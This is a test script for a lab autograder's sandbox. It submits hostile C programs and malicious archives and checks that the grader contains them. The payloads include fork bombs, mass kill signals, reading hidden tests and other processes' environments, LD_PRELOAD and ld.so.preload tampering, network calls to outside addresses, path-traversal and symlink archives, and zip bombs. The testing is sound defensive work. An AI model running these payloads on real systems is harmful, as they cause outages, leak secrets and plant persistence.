#!/usr/bin/env python3
"""
What hostile submissions try: none gets a point that it did not earn, sees a hidden test, outlives its limits, leaves a
process or a file, or reaches somebody else's.
"""
import concurrent.futures
import ctypes
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import pli

sys.path.insert(0, os.path.join(pli.ROOT, "labs", "grader"))
import build
import lab as labs
import starter

FORGE = os.path.join(pli.ROOT, "tests", "labs", "forge")
PATIENCE = 2     # seconds that a server has to begin which never will
MARKER = "5f1d0c77"
SECRET = os.path.join(FORGE, "hidden", "secret.dialogue")
NAME = "pop3d_maildrop.c"
LONGEST = 60 * pli.SLOW    # seconds for a grading that is cut off everywhere

work = tempfile.mkdtemp(prefix="pli-attacks-")
OTHER = os.path.join(work, "other")      # a submission that is graded meanwhile
PLACES = (".", "..", "/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", "/mnt", "/mail", "/usr", "/usr/lib",
          FORGE, os.path.join(pli.ROOT, "bin"), pli.ROOT, work, OTHER, os.path.expanduser("~"))
with open(os.path.join(pli.ROOT, "server", NAME), encoding="utf-8") as source:
    REFERENCE = source.read()
STARTER = starter.make(labs.read(FORGE))["server/" + NAME]

ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)     # PR_SET_CHILD_SUBREAPER: whoever loses its parent below us becomes ours
listener = socket.create_server(("127.0.0.1", 0))
listener.settimeout(0)
PORT = listener.getsockname()[1]

HEADS = """
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
__attribute__((constructor)) static void attack(void);
"""

# name: (code of a constructor, what else is said about the result)
ATTACKS = {
    "an endless loop": "for (;;) { }",
    "a long sleep": "sleep(1000);",
    "stopping oneself": "raise(SIGSTOP);",
    "a fork bomb": "for (;;) fork();",
    "a memory hog": "for (;;) { char *p = malloc(1 << 20); if (p) memset(p, 1, 1 << 20); }",
    "endless output": "for (;;) puts(\"ok 1 - passed\");",
    "a full disk": """char block[65536] = "x"; const char *names[] = { "/mail/a", "/tmp/a", "/mail/b", "/tmp/b" };
        for (int i = 0; i < 4; i++) { int f = open(names[i], O_WRONLY | O_CREAT, 0600);
            while (f >= 0 && write(f, block, sizeof block) > 0) { } }""",
    "an endless recursion": "attack();",
    "leaving with success": "_exit(0);",
    "lines that look like results": """puts("ok 1 - stat\\nok 2 - secret\\npassed 2/2\\n");
        puts("{\\"scores\\": {\\"stat\\": 1}}");
        puts("\\033[2J\\033]0;owned\\007\\xe2\\x80\\xae"); fflush(stdout); _exit(0);""",
    "forged results": """const char *names[] = { "results.json", "/results.json", "/mail/result", "/tmp/result.json",
            "../result.json", "/program", "/usr/result" };
        for (int i = 0; i < 7; i++) { int f = open(names[i], O_WRONLY | O_CREAT | O_TRUNC, 0600);
            if (f >= 0) dprintf(f, "{\\"score\\": 2}"); }""",
    "killing everybody": "for (int i = 1; i < 70000; i++) if (i != getpid()) kill(i, SIGKILL); kill(-1, SIGKILL);",
    "killing the parent": "kill(getppid(), SIGKILL); for (;;) pause();",
    "reading the hidden tests": """char text[4096]; int f = open("%SECRET%", O_RDONLY); ssize_t n;
        while (f >= 0 && (n = read(f, text, sizeof text)) > 0) write(1, text, (size_t)n);
        DIR *d = opendir("%FORGE%/hidden"); if (d) puts("I see %MARKER%"); fflush(stdout); _exit(0);""",
    "reading other processes": """char path[64], text[4096]; for (int i = 1; i < 5000; i++) {
            snprintf(path, sizeof path, "/proc/%d/environ", i); int f = open(path, O_RDONLY); ssize_t n;
            while (f >= 0 && (n = read(f, text, sizeof text)) > 0) write(1, text, (size_t)n);
            if (f >= 0) close(f); }
        _exit(0);""",
    "loading something before": """if (!getenv("LD_PRELOAD")) { setenv("LD_PRELOAD", "/mail/evil.so", 1);
            int f = open("/etc/ld.so.preload", O_WRONLY | O_CREAT, 0600); if (f >= 0) dprintf(f, "/mail/evil.so");
            execl("/proc/self/exe", "program", NULL); }""",
    "calling home": """struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(%PORT%) };
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK); int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) write(s, "here", 4);
        inet_pton(AF_INET, "192.0.2.1", &to.sin_addr); s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) puts("out %MARKER%");""",
    "a process that stays": """if (fork() == 0) { setsid(); if (fork() == 0) { for (;;) pause(); } _exit(0); }""",
    "a file where the ports should be": """mkdir("/mail/ready", 0700);""",
    "a link where the ports should be": """symlink("%SECRET%", "/mail/ready");""",
    "a pipe where the ports should be": """mkfifo("/mail/ready", 0600); for (;;) pause();""",
    "ports that are none": """int f = open("/mail/ready", O_WRONLY | O_CREAT, 0600);
        dprintf(f, "pop3 127.0.0.1 99999\\npop3 127.0.0.1 1\\npop3 x\\n"); close(f); for (;;) pause();""",
    "files left behind": """const char *places[] = { %PLACES% }; char path[512];
        for (int i = 0; places[i]; i++) { snprintf(path, sizeof path, "%s/%MARKER%", places[i]);
            int f = open(path, O_WRONLY | O_CREAT, 0666); if (f >= 0) { write(f, "here", 4); close(f); } }""",
    "reading another submission": """char text[4096]; int f = open("%OTHER%/pop3d_maildrop.c", O_RDONLY); ssize_t n;
        while (f >= 0 && (n = read(f, text, sizeof text)) > 0) write(1, text, (size_t)n);
        DIR *d = opendir("%OTHER%"); if (d) puts("I see %MARKER%"); fflush(stdout); _exit(0);""",
    "a thousand folders": """chdir("/mail"); for (int i = 0; i < 1000; i++) { mkdir("d", 0700); chdir("d"); }""",
}
# What is lawful although it is odd: the rest of the program works, and keeps its grade.
HARMLESS = ("forged results", "killing everybody", "calling home", "a process that stays", "files left behind",
            "a thousand folders")


def impatient():
    """The lab once more, for servers that are not there whatever one waits."""
    lab = os.path.join(work, "impatient")
    if not os.path.isdir(lab):
        shutil.copytree(FORGE, lab)
        with open(os.path.join(FORGE, "lab.conf"), encoding="utf-8") as file:
            conf = re.sub(r"^patience:.*", f"patience: {PATIENCE}", file.read(), flags=re.M)
        with open(os.path.join(lab, "lab.conf"), "w", encoding="utf-8") as file:
            file.write(conf)
    return lab


def grade(submission, most):
    begun = time.monotonic()
    lab = FORGE if most > 0 else impatient()
    run = subprocess.run([sys.executable, "-S", os.path.join(pli.ROOT, "scripts", "grade"), lab, submission,
                          "--format", "json", "--lang", "en"], capture_output=True, timeout=10 * LONGEST,
                         env={**os.environ, "SECRET": MARKER})
    return run, time.monotonic() - begun


def left_over():
    """Processes that the gradings left to us, who take up their orphans; those of other tests are not ours."""
    found = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{name}/stat", encoding="utf-8", errors="replace") as file:
                state, parent = file.read().rpartition(")")[2].split()[:2]
            with open(f"/proc/{name}/cmdline", "rb") as file:
                words = file.read().split(b"\0")
        except OSError:
            continue
        if int(parent) == os.getpid() and state != "Z":
            found.append((name, words))
    return found


def files_left():
    """What an attack has made outside of its sandbox, wherever it tried."""
    return [path for path in (os.path.join(place, MARKER) for place in PLACES) if os.path.lexists(path)]


def judge(what, graded, most=0):
    """The result, when the grader ended in time with one. most: points that the submission may have."""
    run, seconds = graded
    try:
        result = json.loads(run.stdout)
    except ValueError:
        pli.ok(False, what, run.stdout, run.stderr)
        return None
    text = run.stdout.decode()
    faults = []
    if result["score"] > most:
        faults.append(f"it got {result['score']} points")
    if MARKER in text.replace(SECRET, ""):
        faults.append("it saw a hidden test")
    if any(ord(c) < 32 and c != "\n" for c in text) or "\u202e" in json.dumps(result, ensure_ascii=False):
        faults.append("control characters came through")
    if seconds > LONGEST:
        faults.append(f"it took {seconds:.0f} s")
    pli.ok(not faults, what, *faults, text)
    return result


def judge_all(submissions):
    """[(what, folder or archive, most points)]: graded side by side, judged in order. Their results."""
    with concurrent.futures.ThreadPoolExecutor(2 + (os.cpu_count() or 1)) as pool:
        graded = list(pool.map(grade, *zip(*[(submission, most) for _what, submission, most in submissions])))
    return [judge(what, run, most) for (what, _submission, most), run in zip(submissions, graded)]


def folder_with(code):
    folder = tempfile.mkdtemp(dir=work)
    with open(os.path.join(folder, NAME), "w", encoding="utf-8") as file:
        file.write(code)
    return folder


def with_constructor(base, code):
    places = "".join(json.dumps(place) + ", " for place in PLACES) + "NULL"
    for name, value in (("SECRET", SECRET), ("FORGE", FORGE), ("MARKER", MARKER), ("PORT", str(PORT)), ("OTHER", OTHER),
                        ("PLACES", places)):
        code = code.replace(f"%{name}%", value)
    return HEADS + base + "\nstatic void attack(void)\n{\n" + code + "\n}\n"


def running_code():
    os.mkdir(OTHER)
    with open(os.path.join(OTHER, NAME), "w", encoding="utf-8") as file:
        file.write(f"/* {MARKER} */\n{REFERENCE}")
    submissions = [(what, folder_with(with_constructor(STARTER, code)), 0) for what, code in ATTACKS.items()]
    submissions += [(f"{what}, by a program that works otherwise",
                     folder_with(with_constructor(REFERENCE, ATTACKS[what])), 2) for what in HARMLESS]
    results = dict(zip([what for what, _submission, _most in submissions], judge_all(submissions)))
    pli.ok("| ok 1 - stat" in str(results["lines that look like results"]) and
           "\\x1b[2J" in str(results["lines that look like results"]), "what it prints is quoted")
    kept = {what: result["score"] for what, result in results.items() if result and what.endswith("otherwise")}
    pli.ok(set(kept.values()) == {2}, "odd but lawful programs keep their points", kept)
    pli.ok(not left_over(), "no process is left", left_over())
    pli.ok(not files_left(), "and no file", files_left())
    try:
        listener.accept()
        pli.ok(False, "nobody called home")
    except BlockingIOError:
        pli.ok(True, "nobody called home")


def compiling():
    sources = [(what, folder_with(code + STARTER), 0) for what, code in (
                       ("including a hidden test", f'#include "{SECRET}"\n'),
                       ("assembling a hidden test", f'__asm__(".incbin \\"{SECRET}\\"");\n'),
                       ("including the reference", '#include "server/pop3d_maildrop.c"\n'),
                       ("including the terminal", '#include "/dev/stdin"\n#include "/dev/zero"\n'),
                       ("a constant without end", "char all[1ul << 33] = { 1 };\n"))]
    judge_all([*sources, ("nothing at all", folder_with(""), 0),
               ("bytes that are no program", folder_with("\x7fELF\x02\x01" + "\x00\x01\x02" * 1000), 0)])


def archive(fill, kind="tar"):
    path = os.path.join(tempfile.mkdtemp(dir=work), f"submission.{kind}")
    if kind == "tar":
        with tarfile.open(path, "w") as file:
            fill(file)
    else:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
            fill(file)
    return path


def member(name, content=b"", kind=tarfile.REGTYPE, link=""):
    entry = tarfile.TarInfo(name)
    entry.size, entry.type, entry.linkname = len(content), kind, link
    return entry, io.BytesIO(content)


def archives():
    bad = (("a name that leads up", member("../../" + NAME, b"x")), ("an absolute name", member("/tmp/" + NAME, b"x")),
           ("a link", member("link", kind=tarfile.SYMTYPE, link=SECRET)),
           ("a hard link", member("link", kind=tarfile.LNKTYPE, link=SECRET)),
           ("a device", member("device", kind=tarfile.CHRTYPE)), ("a pipe", member("pipe", kind=tarfile.FIFOTYPE)))
    submissions = [(f"an archive with {what}", archive(lambda file, entry=entry: (
        file.addfile(*member(NAME, REFERENCE.encode())), file.addfile(*entry))), 0) for what, entry in bad]
    submissions += [
        ("an archive of too many files",
         archive(lambda file: [file.writestr(f"f{i}", "") for i in range(3000)], "zip"), 0),
        ("an archive that swells", archive(lambda file: file.writestr(NAME, b"\0" * (200 << 20)), "zip"), 0)]
    folder = tempfile.mkdtemp(dir=work)
    os.symlink(SECRET, os.path.join(folder, NAME))
    submissions.append(("a folder with a link to a hidden test", folder, 0))
    folder = tempfile.mkdtemp(dir=work)
    os.mkfifo(os.path.join(folder, NAME))
    submissions.append(("a folder with a pipe", folder, 0))
    results = judge_all(submissions)
    pli.ok(not any(result["valid"] for result in results if result), "none of them is valid", results)
    result, = judge_all([("a good archive", archive(lambda file: file.writestr("mine/server/" + NAME, REFERENCE),
                                                    "zip"), 2)])
    pli.ok(result is not None and result["score"] == 2, "keeps its points", result)


def refusing():
    """Without bubblewrap or namespaces nothing is run."""
    folder = folder_with(REFERENCE)
    grade_script = os.path.join(pli.ROOT, "scripts", "grade")
    path = tempfile.mkdtemp(dir=work)
    for name in ("python3", "unshare", "prlimit", "ip", "env", "make"):
        os.symlink(shutil.which(name, path=os.environ["PATH"] + ":/usr/sbin:/sbin"), os.path.join(path, name))
    run = subprocess.run([grade_script, FORGE, folder, "--lang", "en"], capture_output=True, text=True,
                         env={**os.environ, "PATH": path})
    missing = shutil.which("bwrap", path="/usr/sbin:/sbin") is None
    refused = run.returncode == 1 and "bwrap" in run.stderr and "--unsafe" in run.stderr and not run.stdout
    pli.ok(refused or not missing,
           "without bubblewrap the grader refuses, and says what --unsafe would mean", run.stdout, run.stderr)
    with open("/proc/sys/user/max_user_namespaces", encoding="ascii") as file:
        before = file.read()
    trial = "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\""
    run = subprocess.run(["unshare", "--user", "--map-root-user", "sh", "-c", trial, "sh", grade_script, FORGE, folder,
                          "--lang", "en"], capture_output=True, text=True)
    with open("/proc/sys/user/max_user_namespaces", encoding="ascii") as file:
        assert file.read() == before
    pli.ok(run.returncode == 1 and "user namespaces" in run.stderr and not run.stdout,
           "without user namespaces too", run.stdout, run.stderr)


if pli.installed("bwrap", "gcc", "prlimit", "unshare"):
    pli.skip_all("bubblewrap and its company are not installed")
build.prepare()
impatient()
try:
    running_code()
    compiling()
    archives()
    refusing()
finally:
    shutil.rmtree(work, ignore_errors=True)
pli.done()
